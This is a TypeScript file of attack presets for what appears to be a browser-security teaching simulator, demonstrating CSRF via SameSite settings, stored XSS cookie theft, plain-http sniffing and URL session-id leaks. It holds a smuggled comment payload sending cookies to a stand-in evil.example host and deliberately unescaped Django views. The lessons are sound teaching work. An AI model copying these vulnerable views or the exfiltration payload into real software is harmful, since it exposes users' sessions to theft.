import type { ProjectFiles } from '../../../django/server.ts';
import type { Action } from '../../../world/action.ts';
import type { StaticPage } from '../../../world/scenario.ts';
import { EVIL, EVIL_PAGES, SHOP, shopProject, shopStart, typed } from './shop.ts';
import type { Preset } from './preset.ts';

const SESSION = 'sessionid=s3cr3tk3y';
const ACCOUNT = `${SHOP}/account/`;
const SET = typed(`${SHOP}/set/`);
const attacker: Action = { type: 'openBrowser', profile: 'attacker' };

/** A comment of another user stands in the page as it was written, markup and all. */
const SMUGGLED = `<title>Comments</title><h1>Comments</h1><p>Nice shop <img alt="" data-crumb-leak="${EVIL}/collect/?c="></p>`;

function withComments(line: string): ProjectFiles {
	const files = shopProject(line);
	return {
		...files,
		'urls.py': `${files['urls.py']}\nurlpatterns.append(path('comments/', views.comments))\n`,
		'views.py': `${files['views.py']}\n\ndef comments(request):\n    # The comment is shown without escaping it: markup in it becomes markup of this page.\n    return HttpResponse('''${SMUGGLED}''')\n`
	};
}

const BANNER: StaticPage = {
	body: `<title>News</title><h1>News</h1><div data-crumb-hide-with="consent"><p>May this site keep a cookie?</p><button data-crumb-set-cookie="consent=yes; Max-Age=31536000; Path=/; Secure">Accept</button> <button data-crumb-set-cookie="consent=no; Max-Age=31536000; Path=/; Secure">Decline</button></div><p>document.cookie: <code data-crumb-show-cookie></code></p>`
};

const URL_SESSION_VIEWS = `from django.http import HttpResponse
from django.shortcuts import redirect

CARTS = {}


def start(request):
    sid = f'c{len(CARTS) + 1:07d}'
    CARTS[sid] = 0
    return redirect(f'/{sid}/')


def shop(request, sid):
    if sid not in CARTS:
        return redirect('/')
    CARTS[sid] += 1
    return HttpResponse(
        '<title>Cart</title><meta name="referrer" content="unsafe-url">'
        f'<h1>{CARTS[sid]} things in the cart</h1><a href="/{sid}/">One more</a> '
        '<a href="${EVIL}/collect/">A page about things</a>',
        headers={'Referrer-Policy': 'unsafe-url'},
    )
`;

const URL_SESSION_URLS = `from django.urls import path

import views

urlpatterns = [
    path('', views.start),
    path('<str:sid>/', views.shop),
]
`;

const listening = 'http://shop.example/set/';

export const ATTACK_PRESETS: readonly Preset[] = [
	{
		id: 'attack-csrf',
		title: 'A cross-site form that works',
		says: 'The session cookie is SameSite=None, so the form of evil.example carries it. Give it SameSite=Lax in views.py and play it again.',
		group: 'attack',
		shows: null,
		start: shopStart(`${SESSION}; Secure; HttpOnly; SameSite=None; Path=/`),
		actions: [SET, typed(`${EVIL}/sends/`)]
	},
	{
		id: 'attack-fresh-cookie',
		title: 'Two minutes without SameSite',
		says: 'A cookie without SameSite counts as Lax, but for its first two minutes Chrome lets it go along with a cross-site POST. Move the clock by 3 minutes and send again.',
		group: 'attack',
		shows: null,
		start: shopStart(`${SESSION}; Secure; Path=/`),
		actions: [SET, typed(`${EVIL}/sends/`)]
	},
	{
		id: 'attack-script',
		title: 'A script carries the session off',
		says: 'A comment smuggles a script into the shop’s page. It reads document.cookie and sends it to evil.example. The attacker’s browser stands beside: paste the cookie there. HttpOnly would have stopped it.',
		group: 'attack',
		shows: null,
		start: { ...shopStart(''), project: withComments(`${SESSION}; Secure; Path=/`) },
		actions: [SET, attacker, typed(`${SHOP}/comments/`)]
	},
	{
		id: 'attack-wire',
		title: 'Somebody listens on the wire',
		says: 'The shop is visited over plain http. Open “Who listens?” on the wire: cookie and page are readable there. Over https only host and size are.',
		group: 'attack',
		shows: null,
		start: shopStart(`${SESSION}; Path=/`),
		actions: [typed(listening), typed('http://shop.example/account/'), typed(ACCOUNT), attacker]
	},
	{
		id: 'attack-url-session',
		title: 'A session id in the address',
		says: 'No cookie at all: the id stands in the URL. A link to another site gives it away in the Referer, and so does everybody who shares the address.',
		group: 'attack',
		shows: null,
		start: {
			...shopStart(''),
			project: { ...shopProject(''), 'urls.py': URL_SESSION_URLS, 'views.py': URL_SESSION_VIEWS }
		},
		actions: [
			typed(`${SHOP}/`),
			{ type: 'visit', profile: 'browser', url: `${SHOP}/c0000001/`, cause: 'link', from: 1 },
			{ type: 'visit', profile: 'browser', url: `${EVIL}/collect/`, cause: 'link', from: 1 },
			{ type: 'visit', profile: 'attacker', url: `${SHOP}/c0000001/` }
		]
	},
	{
		id: 'page-consent',
		title: 'A consent banner',
		says: 'The buttons write document.cookie, and the banner hides once the cookie is there. Nothing of this is a request.',
		group: 'attack',
		shows: null,
		start: shopStart('', {
			sites: [
				{ origin: EVIL, content: { kind: 'pages', pages: EVIL_PAGES } },
				{ origin: 'https://news.example', content: { kind: 'pages', pages: { '/': BANNER } } }
			]
		}),
		actions: [typed('https://news.example/')]
	}
];
